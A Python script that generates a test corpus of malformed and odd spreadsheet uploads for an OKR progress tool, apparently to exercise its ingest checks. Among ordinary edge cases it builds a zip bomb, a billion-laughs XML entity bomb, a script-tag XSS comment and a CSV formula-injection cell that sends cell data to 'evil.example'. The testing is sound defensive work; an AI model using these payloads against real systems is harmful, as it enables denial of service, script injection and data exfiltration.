"""Writes the upload corpus, tests/data/upload/: the bad and odd files team leads really send.

Every file is a progress upload for the demo company at the review of 2027-05-31, for team Sales
unless its name says otherwise (Engineering has the status-measured KRs). What each file must
produce is asserted in tests/test_upload_corpus.py. Deterministic: rerunning rewrites the same
content (xlsx files carry a fixed creation date).

    .venv/bin/python tests/make_corpus.py
"""

from __future__ import annotations

import datetime as dt
import io
import pathlib
import sys
import tempfile
import zipfile

PROJECT_ROOT = pathlib.Path(__file__).resolve().parent.parent
sys.path.insert(0, str(PROJECT_ROOT))

import conftest  # noqa: E402  (this folder: the shared test helpers)
from loaders.ingest import check_and_store  # noqa: E402
from loaders.template import build_template  # noqa: E402
from store.database import Store, UploadedFile  # noqa: E402

CORPUS = PROJECT_ROOT / "tests" / "data" / "upload"
DEMO_WORKBOOK = PROJECT_ROOT / "okr_data" / "demo_company_2027.xlsx"
AS_OF = dt.date(2027, 5, 31)
FIXED_TIME = dt.datetime(2027, 5, 31, 12, 0)
ZIP_BOMB_BYTES = 300 * 2**20
LONGEST_CELL = 32_767
CHECK_IN_HEADER = ["kr_id", "date", "value", "status", "confidence", "comment", "updated_by"]
OVERLONG_CELL = LONGEST_CELL + 7_233  # 40,000 characters: more than a spreadsheet cell holds
EXCEL_1904_SHIFT = 1462  # days between Excel's two date systems


def csv_bytes(rows: list[list[object]], delimiter: str = ",", encoding: str = "utf-8") -> bytes:
    import csv

    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(sheets: dict[str, list[list[object]]]) -> bytes:
    """A workbook written by openpyxl (which, like scripts, saves formulas without results)."""
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    workbook.properties.created = workbook.properties.modified = FIXED_TIME
    for name, rows in sheets.items():
        sheet = workbook.create_sheet(name)
        for row in rows:
            sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return _fixed_zip_times(buffer.getvalue())


def _fixed_zip_times(data: bytes) -> bytes:
    """The same archive with every entry, and the workbook's modified date (which openpyxl sets to
    the time of saving), dated FIXED_TIME, so regenerating changes no byte."""
    import re

    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            info = zipfile.ZipInfo(entry.filename, FIXED_TIME.timetuple()[:6])
            info.compress_type = zipfile.ZIP_DEFLATED
            content = source.read(entry.filename)
            if entry.filename == "docProps/core.xml":
                content = re.sub(
                    rb"(<dcterms:modified[^>]*>)[^<]*",
                    rb"\g<1>" + FIXED_TIME.strftime("%Y-%m-%dT%H:%M:%SZ").encode(),
                    content,
                )
            target.writestr(info, content)
    return buffer.getvalue()


def xlsx_with_raw_cells(rows: list[list[object]], raw_cells: dict[str, bytes], sheet_name: str = "CheckIns") -> bytes:
    """A workbook whose cells named in `raw_cells` (e.g. "C2") hold the given cell XML as Excel saves
    it (a formula with its saved result, an error), which openpyxl cannot write: each such cell is
    written as a placeholder string first, then replaced in the sheet's XML."""
    import re

    placeholders = {reference: f"@@{reference}@@" for reference in raw_cells}
    rows = [list(row) for row in rows]
    for reference, placeholder in placeholders.items():
        column, row = ord(reference[0]) - ord("A"), int(reference[1:]) - 1
        rows[row][column] = placeholder
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes({sheet_name: rows})))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            content = source.read(entry.filename)
            if entry.filename == "xl/worksheets/sheet1.xml":
                for reference, placeholder in placeholders.items():
                    cell = re.compile(rf'<c r="{reference}"[^>]*><is><t>{placeholder}</t></is></c>'.encode())
                    content = cell.sub(lambda _, reference=reference: raw_cells[reference], content)
            target.writestr(entry, content)
    return buffer.getvalue()


def xlsx_1904(rows: list[list[object]]) -> bytes:
    """A workbook in Excel for Mac's old 1904 date system (date cells and plain serial numbers)."""
    import openpyxl
    from openpyxl.utils.datetime import CALENDAR_MAC_1904

    workbook = openpyxl.Workbook()
    workbook.epoch = CALENDAR_MAC_1904
    sheet = workbook.active
    sheet.title = "CheckIns"
    for row in rows:
        sheet.append(row)
    workbook.properties.created = workbook.properties.modified = FIXED_TIME
    buffer = io.BytesIO()
    workbook.save(buffer)
    return _fixed_zip_times(buffer.getvalue())


def xlsx_merged_title(rows: list[list[object]], merged: str) -> bytes:
    """A sheet whose title row is merged across the table's width, as people dress up a report."""
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Sales progress"
    for row in rows:
        sheet.append(row)
    sheet.merge_cells(merged)
    workbook.properties.created = workbook.properties.modified = FIXED_TIME
    buffer = io.BytesIO()
    workbook.save(buffer)
    return _fixed_zip_times(buffer.getvalue())


def billion_laughs() -> bytes:
    """A workbook whose shared strings declare nested entities that expand to 10^9 "lol"s (3 GB) when
    a parser resolves them."""
    import re

    import xlsxwriter  # unlike openpyxl, it puts text in a sharedStrings part

    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    workbook.set_properties({"created": FIXED_TIME})
    sheet = workbook.add_worksheet("CheckIns")
    for number, row in enumerate([CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", 512000, None, 7, "LAUGH"]]):
        sheet.write_row(number, 0, row)
    workbook.close()
    data = buffer.getvalue()
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10)
    )
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            content = source.read(entry.filename)
            if entry.filename == "xl/sharedStrings.xml":
                content = re.sub(rb"(<\?xml[^>]*\?>)", rb"\1<!DOCTYPE sst [" + entities.encode() + rb"]>", content)
                content = content.replace(b"LAUGH", b"&lol9;")
            info = zipfile.ZipInfo(entry.filename, FIXED_TIME.timetuple()[:6])
            info.compress_type = zipfile.ZIP_DEFLATED
            target.writestr(info, content)
    return buffer.getvalue()


def workbook_with_empty_sheets(sheets: dict[str, list[list[object]]]) -> bytes:
    """A workbook with these sheets, an empty one (no cell at all) first."""
    return xlsx_bytes({"Sheet1": [], **sheets})


def filled_template(store: Store, team: str, fills: dict[str, dict[str, object]]) -> bytes:
    """The team's downloaded template with some cells filled in, as a lead does in Excel."""
    return _fixed_zip_times(conftest.filled_template(build_template(store, team, AS_OF), fills, FIXED_TIME))


def full_workbook_with_new_check_ins() -> bytes:
    """The whole demo workbook, every sheet, with two new Sales check-ins appended."""
    import openpyxl

    workbook = openpyxl.load_workbook(DEMO_WORKBOOK)
    sheet = workbook["CheckIns"]
    header = [cell.value for cell in sheet[1]]
    for kr_id, value, comment in (("SAL-O2-KR1", 512000, "Two deals closed"), ("SAL-O2-KR2", 15, None)):
        row = dict(
            kr_id=kr_id,
            date=dt.datetime(2027, 5, 31),
            value=value,
            confidence=7,
            comment=comment,
            updated_by="Maya Goldberg",
        )
        sheet.append([row.get(name) for name in header])
    workbook.properties.created = workbook.properties.modified = FIXED_TIME
    buffer = io.BytesIO()
    workbook.save(buffer)
    return _fixed_zip_times(buffer.getvalue())


def zip_bomb() -> bytes:
    """A tiny .xlsx that declares 300 MB of sheet XML (zeros, deflated ~1000:1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(
            zipfile.ZipInfo("xl/workbook.xml", FIXED_TIME.timetuple()[:6]),
            '<workbook><sheets><sheet name="CheckIns" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", FIXED_TIME.timetuple()[:6])
        info.compress_type = zipfile.ZIP_DEFLATED
        chunk = b"\0" * 2**20
        with archive.open(info, "w", force_zip64=True) as entry:
            for _ in range(ZIP_BOMB_BYTES // len(chunk)):
                entry.write(chunk)
    return buffer.getvalue()


def ole_header() -> bytes:
    """The start of a Compound File: what Excel writes for a password-protected workbook (the
    EncryptedPackage stream) and for a legacy .xls."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:26] = b"\x3e\x00"  # minor version
    header[26:28] = b"\x03\x00"  # major version 3
    header[28:30] = b"\xfe\xff"  # little-endian
    header[30:32] = b"\x09\x00"  # 512-byte sectors
    directory = "EncryptedPackage".encode("utf-16-le") + b"\0\0"
    return bytes(header) + directory.ljust(512, b"\0") + "EncryptionInfo".encode("utf-16-le").ljust(512, b"\0")


def binary_garbage() -> bytes:
    """A PNG-like binary file renamed .xlsx (a fixed byte pattern with NUL bytes, not a zip)."""
    return b"\x89PNG\r\n\x1a\n" + bytes((i * 37 + 11) % 256 for i in range(4096))


def corpus(store: Store) -> dict[str, bytes]:
    sales_row = ["SAL-O2-KR1", "2027-05-31", 512000, None, 7, "Two deals closed", "Maya Goldberg"]
    files = {
        # Files that cannot be read at all.
        "empty.csv": b"",
        "binary_garbage.xlsx": binary_garbage(),
        "password_protected.xlsx": ole_header(),
        "zip_bomb.xlsx": zip_bomb(),
        "wrong_sheet.xlsx": xlsx_bytes({"Budget": [["line", "amount"], ["Travel", 1200], ["Tools", 300]]}),
        "only_header.csv": csv_bytes([CHECK_IN_HEADER]),
        # Rows with problems.
        "unknown_kr_id.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-02-KR1", "2027-05-31", 512000, None, 7, None, None]]),
        "other_team_kr.csv": csv_bytes(
            [CHECK_IN_HEADER, sales_row, ["MKT-O1-KR1", "2027-05-31", 40, None, 6, None, None]]
        ),
        "non_numeric_value.csv": csv_bytes(
            [CHECK_IN_HEADER, ["SAL-O2-KR2", "2027-05-31", "about 15", None, 6, None, None]]
        ),
        "date_far_future.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR1", "2207-05-31", 512000, None, 7, None, None]]),
        "date_not_a_date.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR1", "end of May", 512000, None, 7, None, None]]),
        "duplicate_rows.csv": csv_bytes([CHECK_IN_HEADER, sales_row, sales_row]),
        "missing_kr_id_column.csv": csv_bytes([["date", "value", "comment"], ["2027-05-31", 512000, "no id"]]),
        "missing_value_column.xlsx": xlsx_bytes(
            {
                "CheckIns": [
                    ["kr_id", "date", "confidence", "comment"],
                    ["SAL-O2-KR1", "2027-05-31", 7, "forgot the number"],
                ]
            }
        ),
        "formula_without_result.xlsx": xlsx_bytes(
            {"CheckIns": [CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", "=450000+62000", None, 7]]}
        ),
        "nan_inf_values.csv": csv_bytes(
            [
                CHECK_IN_HEADER,
                ["SAL-O2-KR1", "2027-05-31", "inf", None, 7, None, None],
                ["SAL-O2-KR2", "2027-05-31", "NaN", None, 6, "no number", None],
            ]
        ),
        "negative_confidence.csv": csv_bytes(
            [CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", 512000, None, -1, None, None]]
        ),
        "confidence_11.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", 512000, None, 11, None, None]]),
        "status_word_typo.csv": csv_bytes(
            [CHECK_IN_HEADER, ["ENG-O2-KR2", "2027-05-31", None, "Good progres", 6, None, None]]
        ),
        "engineering_number_for_status_kr.csv": csv_bytes(
            [CHECK_IN_HEADER, ["ENG-O2-KR2", "2027-05-31", 3, None, 6, None, None]]
        ),
        "status_for_numeric_kr.csv": csv_bytes(
            [CHECK_IN_HEADER, ["SAL-O2-KR2", "2027-05-31", None, "Completed", 6, None, None]]
        ),
        # Whole files that cannot be opened, made from good ones.
        "truncated.xlsx": filled_template(store, "Sales", {"SAL-O2-KR1": {"value": 512000}})[:3000],
        # Odd but valid: the shapes people really send.
        "template_filled.xlsx": filled_template(
            store,
            "Sales",
            {
                "SAL-O2-KR1": {"value": 512000, "confidence": 8, "comment": "Two deals closed"},
                "SAL-O3-KR2": {"value": 3, "confidence": 5},
            },
        ),
        "checkins_sheet.xlsx": xlsx_bytes(
            {
                "CheckIns": [
                    CHECK_IN_HEADER,
                    sales_row,
                    ["SAL-O2-KR3", dt.datetime(2027, 5, 31), 23.5, None, 8, None, "Fatima Zahra"],
                ]
            }
        ),
        "full_workbook.xlsx": full_workbook_with_new_check_ins(),
        "current_column_no_date.csv": csv_bytes(
            [
                ["KR ID", "Current", "Comment"],
                ["SAL-O2-KR1", "512000", "Two deals closed"],
                ["SAL-O2-KR2", "", ""],
                ["SAL-O3-KR3", "97", ""],
            ]
        ),
        "semicolon_decimal_comma.csv": csv_bytes(
            [
                ["kr_id", "date", "value", "comment"],
                ["SAL-O2-KR1", "31/05/2027", "512.000,5", "Zwei Abschlüsse"],
                ["SAL-O2-KR3", "31/05/2027", "23,5", ""],
            ],
            delimiter=";",
        ),
        "excel_serial_dates.xlsx": xlsx_bytes(
            {"CheckIns": [["kr_id", "date", "value"], ["SAL-O2-KR1", 46538, 512000], ["SAL-O2-KR2", "46538", 15]]}
        ),
        "percent_and_dollar.csv": csv_bytes(
            [["kr_id", "date", "value"], ["SAL-O2-KR3", "2027-05-31", "24%"], ["SAL-O2-KR1", "2027-05-31", "$1,200"]]
        ),
        "utf16_tab.csv": csv_bytes(
            [["kr_id", "date", "value", "comment"], ["SAL-O2-KR1", "2027-05-31", "512000", "Déjà deux contrats"]],
            delimiter="\t",
            encoding="utf-16",
        ),
        "utf16le_without_bom.csv": csv_bytes(
            [["kr_id", "date", "value"], ["SAL-O2-KR1", "2027-05-31", "512000"]], encoding="utf-16-le"
        ),
        "csv_named_xlsx.xlsx": csv_bytes([["kr_id", "date", "value"], ["SAL-O2-KR1", "2027-05-31", "512000"]]),
        "cp1252_accents.csv": csv_bytes(
            [["kr_id", "date", "value", "comment"], ["SAL-O2-KR1", "2027-05-31", "512000", "Signé à Zürich – café"]],
            encoding="cp1252",
        ),
        "title_rows_above_header.xlsx": xlsx_bytes(
            {
                "Sales May": [
                    ["Sales progress, May 2027"],
                    [],
                    ["KR id", "Check-in date", "Current value", "Confidence"],
                    ["SAL-O2-KR1", "2027-05-31", 512000, 7],
                ]
            }
        ),
        "longest_cell.xlsx": xlsx_bytes(
            {
                "CheckIns": [
                    CHECK_IN_HEADER,
                    ["SAL-O2-KR1", "2027-05-31", 512000, None, 7, ("Long note. " * 3000)[:LONGEST_CELL], None],
                ]
            }
        ),
        "na_values.csv": csv_bytes(
            [
                CHECK_IN_HEADER,
                ["SAL-O2-KR1", "2027-05-31", "N/A", None, "n/a", None, None],
                ["SAL-O2-KR2", "2027-05-31", "#N/A", None, None, None, None],
                ["SAL-O2-KR3", "2027-05-31", "24", None, "N/A", None, None],
            ]
        ),
        "engineering_status_odd_case.csv": csv_bytes(
            [CHECK_IN_HEADER, ["ENG-O2-KR2", "2027-05-31", None, "gOOD pROGRESS", 7, None, None]]
        ),
        "html_in_comment.csv": csv_bytes(
            [
                CHECK_IN_HEADER,
                [
                    "SAL-O2-KR1",
                    "2027-05-31",
                    512000,
                    None,
                    7,
                    "<script>alert('x')</script><b>bold</b> **not bold**",
                    None,
                ],
            ]
        ),
        "value_moved_backwards.csv": csv_bytes(
            [
                CHECK_IN_HEADER,
                ["SAL-O2-KR1", "2027-05-31", 300000, None, 6, "Deal slipped out", None],
                ["SAL-O2-KR4", "2027-05-31", 85, None, 6, None, None],
            ]
        ),
        # Encodings and separators.
        "utf8_bom.csv": b"\xef\xbb\xbf"
        + csv_bytes([["kr_id", "date", "value", "comment"], ["SAL-O2-KR1", "2027-05-31", "512000", "Déjà signé"]]),
        "utf16be_bom.csv": b"\xfe\xff"
        + csv_bytes(
            [["kr_id", "date", "value", "comment"], ["SAL-O2-KR1", "2027-05-31", "512000", "Größer – ça marche"]],
            encoding="utf-16-be",
        ),
        "utf16be_without_bom.csv": csv_bytes(
            [["kr_id", "date", "value"], ["SAL-O2-KR1", "2027-05-31", "512000"]], encoding="utf-16-be"
        ),
        "pipe_separated.csv": csv_bytes(
            [["kr_id", "date", "value", "comment"], ["SAL-O2-KR1", "2027-05-31", "512000", "Two deals, both signed"]],
            delimiter="|",
        ),
        "tab_separated_utf8.csv": csv_bytes(
            [
                ["kr_id", "date", "value", "confidence"],
                ["SAL-O2-KR1", "2027-05-31", "512000", "7"],
                ["SAL-O2-KR3", "2027-05-31", "23,5", "8"],
            ],
            delimiter="\t",
        ),
        "decimal_comma_quoted.csv": csv_bytes(
            [
                ["kr_id", "date", "value"],
                ["SAL-O2-KR3", "2027-05-31", "23,5"],
                ["SAL-O2-KR1", "2027-05-31", "1,250,000"],
            ]
        ),
        # Dates: one order per column (05/31/2027 makes this one month first); Excel for Mac's 1904 date system.
        "ambiguous_dates.csv": csv_bytes(
            [["kr_id", "date", "value"], ["SAL-O2-KR1", "03/04/2027", "350000"], ["SAL-O2-KR2", "05/31/2027", "15"]]
        ),
        "epoch_1904.xlsx": xlsx_1904(
            [
                ["kr_id", "date", "value"],
                ["SAL-O2-KR1", dt.datetime(2027, 5, 31), 512000],
                ["SAL-O2-KR2", 46538 - EXCEL_1904_SHIFT, 15],
            ]
        ),
        # Layouts: a merged title above the header, empty sheets, repeated headers.
        "merged_title_cells.xlsx": xlsx_merged_title(
            [
                ["Sales — progress for the May review"],
                [None],
                ["KR id", "Date", "Current value", "Comment"],
                ["SAL-O2-KR1", "2027-05-31", 512000, "Two deals closed"],
            ],
            "A1:D1",
        ),
        "title_rows_above_header.csv": csv_bytes(
            [
                ["Sales progress export"],
                ["Generated 2027-05-31 by the CRM"],
                [],
                ["KR ID", "Check-in date", "Actual"],
                ["SAL-O2-KR1", "2027-05-31", "512000"],
            ]
        ),
        "empty_sheet_beside_data.xlsx": workbook_with_empty_sheets({"CheckIns": [CHECK_IN_HEADER, sales_row]}),
        "only_empty_sheets.xlsx": xlsx_bytes({"Sheet1": [], "Sheet2": []}),
        "duplicate_headers.csv": csv_bytes(
            [["kr_id", "date", "value", "Value", "comment"], ["SAL-O2-KR1", "2027-05-31", "", "512000", "which one?"]]
        ),
        # Cells: formulas and their results, Excel errors, text too long for a cell, formulas in text.
        "formula_with_saved_result.xlsx": xlsx_with_raw_cells(
            [["kr_id", "date", "value"], ["SAL-O2-KR1", "2027-05-31", None]],
            {"C2": b'<c r="C2"><f>450000+62000</f><v>512000</v></c>'},
        ),
        "excel_error_value.xlsx": xlsx_with_raw_cells(
            [
                ["kr_id", "date", "value", "comment"],
                ["SAL-O2-KR1", "2027-05-31", None, "from the CRM sheet"],
                ["SAL-O2-KR2", "2027-05-31", None, "lookup failed"],
            ],
            {
                "C2": b'<c r="C2" t="e"><f>B9/B10</f><v>#DIV/0!</v></c>',
                "C3": b'<c r="C3" t="e"><f>VLOOKUP(A3,Data!A:B,2,FALSE)</f><v>#N/A</v></c>',
            },
        ),
        "overlong_cell.csv": csv_bytes(
            [CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", 512000, None, 7, "x" * OVERLONG_CELL, None]]
        ),
        "formula_injection_comment.csv": csv_bytes(
            [
                CHECK_IN_HEADER,
                ["SAL-O2-KR1", "2027-05-31", 512000, None, 7, '=HYPERLINK("http://evil.example/?d="&A1,"Click")', None],
            ]
        ),
        "billion_laughs.xlsx": billion_laughs(),
    }
    return files


def main() -> None:
    CORPUS.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory() as folder:
        store = Store.open(str(pathlib.Path(folder) / "demo.duckdb"))
        result = check_and_store(store, [UploadedFile(DEMO_WORKBOOK.name, DEMO_WORKBOOK.read_bytes())], "corpus")
        assert not result.errors, result.errors
        files = corpus(store)
        store.close()
    for name, content in files.items():
        (CORPUS / name).write_bytes(content)
        print(f"{name}: {len(content):,} bytes")


if __name__ == "__main__":
    main()
